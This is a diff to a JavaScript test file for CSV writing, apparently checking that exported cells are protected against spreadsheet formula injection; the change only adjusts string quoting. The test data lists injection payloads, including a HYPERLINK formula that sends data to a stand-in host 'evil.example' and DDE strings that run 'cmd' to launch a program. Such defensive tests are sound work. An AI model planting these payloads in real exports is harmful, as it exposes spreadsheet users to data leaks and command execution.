@@ -40,8 +40,8 @@ describe('CSV writing', () => {
     const attacks = {
       '=': '=HYPERLINK("http://evil.example/?leak=1","click")',
       '+': "+cmd|'/Ccalc'!A0",
-      '-': '-2+3+cmd|\' /C calc\'!D2',
-      '@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      '-': "-2+3+cmd|' /C calc'!D2",
+      '@': "@SUM(1+1)*cmd|' /C calc'!A0",
       tab: '\t=1+1',
       CR: '\r=1+1',
     };
@@ -78,4 +78,3 @@ describe('CSV writing', () => {
     });
   });
 });
-
